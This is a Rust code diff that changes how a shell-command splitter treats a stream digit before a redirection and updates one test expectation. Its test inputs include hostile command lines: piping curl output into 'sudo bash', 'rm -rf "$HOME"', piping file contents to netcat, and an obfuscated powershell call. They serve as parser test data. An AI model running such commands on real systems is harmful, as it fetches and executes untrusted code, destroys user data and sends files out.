@@ -158,6 +158,10 @@ impl Splitter<'_> {
     }
 
     fn redirection(&mut self) {
+        // The digit of `2>file` is the stream, no argument.
+        if self.word.as_deref().is_some_and(|word| word.len() == 1 && word[0].is_ascii_digit()) {
+            self.word = None;
+        }
         self.end_word();
         self.start();
         while matches!(self.bytes.get(self.at), Some(b'>' | b'|')) {
@@ -296,7 +300,7 @@ mod tests {
         check("curl -s https://a.test | sudo bash", "curl _ -s _ https://a.test; | sudo _ bash");
         check("cd x && rm -rf \"$HOME\" ; ls", "cd _ x; rm _ -rf _ $HOME; ls");
         check("cu'r'l a\\ b", "curl _ a b");
-        check("echo a > /tmp/x 2>&1", "echo _ a _ 2 > /tmp/x");
+        check("echo a > /tmp/x 2>&1", "echo _ a > /tmp/x");
         check("(cat a; cat b) | nc h 1", "cat _ a; cat _ b; | nc _ h _ 1");
         check("p^ower^shell -c x", "power^shell _ -c _ x".replace('^', "").as_str());
         check("C:\\Users\\x.exe /s", "C:\\Users\\x.exe _ /s");
